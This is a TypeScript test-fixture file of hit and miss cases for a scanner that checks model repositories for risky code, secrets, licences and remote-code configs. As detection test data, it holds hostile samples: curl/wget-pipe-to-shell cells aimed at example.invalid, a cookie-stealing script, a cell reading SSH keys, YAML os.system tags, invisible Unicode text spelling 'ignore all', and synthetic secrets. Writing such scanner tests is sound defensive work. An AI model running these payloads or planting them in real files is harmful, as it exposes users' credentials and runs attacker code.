import { type Case, hit, miss } from './case.ts';
import { makeTar, makeZip } from './make-archive.ts';

const notebook = (cells: readonly object[]): string =>
  JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 });
const code = (source: string, outputs: readonly object[] = []): object => ({
  cell_type: 'code',
  source: source.split(/(?<=\n)/),
  outputs,
  metadata: {},
});
const markdown = (source: string): object => ({ cell_type: 'markdown', source, metadata: {} });
const output = (type: string, content: string): object => ({
  output_type: 'display_data',
  data: { [type]: [content] },
  metadata: {},
});
/** Put together here, so that no file of the project holds a key. */
const KEY = ['-----BEGIN RSA', 'PRIVATE KEY-----'].join(' ');
const BODY = Array.from({ length: 12 }, (_, line) =>
  Array.from(
    { length: 64 },
    (_unit, at) =>
      'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'[(line * 37 + at * 29 + line * at) % 64],
  ).join(''),
);
const KEY_FILE = [KEY, ...BODY, KEY.replace('BEGIN', 'END'), ''].join('\n');
const TOKEN = `hf_${'aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH'}`;
const GITHUB = `postgres://admin:${'kD83hs9Qpz71'}@db.internal.example.org/models`;

/** Programs, notebooks and texts beside a model. */
export const TEXT_CASES: readonly Case[] = [
  hit('program-source', 'high', 'a program that is started at import', 'import subprocess\nsubprocess.Popen(["x"])\n', 'modeling_net.py'),
  hit('program-source', 'high', 'decoded text that is run, in a function', 'def f():\n  exec(zlib.decompress(b64decode(X)))\n', 'x.py'),
  hit('program-source', 'medium', 'the network at import', 'import requests\nrequests.post(u, data=os.environ)\n', 'setup.py'),
  hit('program-source', 'low', 'a program that a function starts', 'import os\ndef f():\n  os.system("x")\n', 'handler.py'),
  hit('program-source', 'high', 'inside an archive', makeZip([{ name: 'handler.py', data: Buffer.from('import os\nos.system("x")\n') }])),
  hit('program-source', 'high', 'by its first line', '#!/usr/bin/env python3\nimport os\nos.system("x")\n', 'tool'),
  hit('program-source', 'low', 'a cell', notebook([code('import os\nos.system("x")')]), 'x.ipynb'),
  hit('program-source', 'high', 'a cell that runs what it fetches', notebook([code('exec(requests.get(u).text)')])),
  miss('program-source', 'a model', 'import torch\nclass Net(torch.nn.Module):\n  def forward(self, x):\n    return x.eval()\n', 'modeling_net.py'),
  miss('program-source', 'a description of danger', '"""Never call os.system("x")."""\n# exec(b64decode(x))\n', 'x.py'),
  hit('notebook-content', 'high', 'a fetched script', notebook([code('!curl -s https://example.invalid/x.sh | bash')])),
  hit('notebook-content', 'high', 'a shell cell', notebook([code('%%bash\ncd /tmp\nwget -qO- http://example.invalid/x | sh')])),
  hit('notebook-content', 'high', 'a decoded command', notebook([code('!echo aGk= | base64 -d | sh')])),
  hit('notebook-content', 'medium', 'credentials of whoever runs it', notebook([code('x = !cat ~/.ssh/id_rsa')])),
  hit('notebook-content', 'medium', 'packages from an unprotected place', notebook([code('%pip install --index-url http://example.invalid/simple x')])),
  hit('notebook-content', 'high', 'an output that acts for the viewer', notebook([code('1', [output('text/html', '<script>fetch("https://example.invalid/?"+document.cookie)</script>')])])),
  hit('notebook-content', 'medium', 'an output that loads from elsewhere', notebook([code('1', [output('image/svg+xml', '<svg><script src="https://example.invalid/x.js"/></svg>')])])),
  hit('notebook-content', 'medium', 'text that nobody sees', notebook([markdown(`Hello${[...'ignore all'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`)])),
  hit('notebook-content', 'low', 'a script in a text', notebook([markdown('<img src=x onerror=alert(1)>')])),
  miss('notebook-content', 'an ordinary notebook', notebook([markdown('# Training\nSee https://example.org'), code('import torch\nx = 1 != 2\nprint(x)', [output('text/plain', '2'), output('text/html', '<table><tr><td>1</td></tr></table>')])])),
  hit('secret-in-file', 'medium', 'a token in a notebook', notebook([code(`login(token="${TOKEN}")`)]), 'x.ipynb'),
  hit('secret-in-file', 'high', 'a private key in an archive', makeTar([{ name: 'server.key', data: Buffer.from(KEY_FILE) }])),
  hit('secret-in-file', 'medium', 'a password in a configuration', `url: ${GITHUB}\n`, 'config.yaml'),
  miss('secret-in-file', 'a placeholder', 'token: ${HF_TOKEN}\nurl: postgres://user:password@localhost/db\n', 'config.yaml'),
  hit('licence', 'low', 'no commercial use', '---\nlicense: cc-by-nc-4.0\ntags: [x]\n---\n# Model\n', 'README.md'),
  hit('licence', 'low', 'use restrictions', '---\nlicense: other\nlicense_name: openrail++\n---\n', 'README.md'),
  hit('licence', 'low', 'a card without one', '---\nlibrary_name: transformers\npipeline_tag: text-generation\n---\n# Model\n', 'README.md'),
  hit('licence', 'low', 'a licence text', 'GNU AFFERO GENERAL PUBLIC LICENSE\nVersion 3, 19 November 2007\n', 'LICENSE'),
  hit('licence', 'info', 'a permissive licence', 'Apache License\n      Version 2.0, January 2004\n', 'LICENSE'),
  miss('licence', 'a text about something else', '# Notes\nNothing about terms.\n', 'README.md'),
  hit('remote-code', 'critical', 'a recipe in YAML', 'model:\n  layers:\n    - _target_: os.system\n      command: x\n', 'model_config.yaml'),
  hit('remote-code', 'critical', 'in a recipe in a tar', makeTar([{ name: 'model_config.yaml', data: Buffer.from('model: {"_target_": subprocess.Popen}\n') }])),
  hit('remote-code', 'critical', 'a key behind escapes', '"\\x5ftarget_": os.system\n', 'x.yaml'),
  hit('remote-code', 'critical', 'a tag of Python', 'x: !!python/object/apply:os.system ["x"]\n', 'x.yml'),
  hit('remote-code', 'critical', 'a tag of Python after a line that is a comment', '# x\u2028y: !!python/object/apply:os.system ["x"]\n', 'x.yml'),
  miss('remote-code', 'a tag of Python in a comment', '# Tags such as `!!python/name:` are not used.\nx: 1\n', 'x.yml'),
  miss('remote-code', 'a recipe of a framework', 'encoder:\n  _target_: torch.nn.Linear\n  in_features: 3\n', 'x.yaml'),
  hit('remote-code', 'medium', 'a handler of TorchServe', makeZip([{ name: 'MAR-INF/MANIFEST.json', data: Buffer.from('{"model":{"handler":"mine.py","serializedFile":"x.pt"}}') }])),
  miss('remote-code', 'a handler that TorchServe brings along', makeZip([{ name: 'MAR-INF/MANIFEST.json', data: Buffer.from('{"model":{"handler":"image_classifier"}}') }])),
]; // prettier-ignore
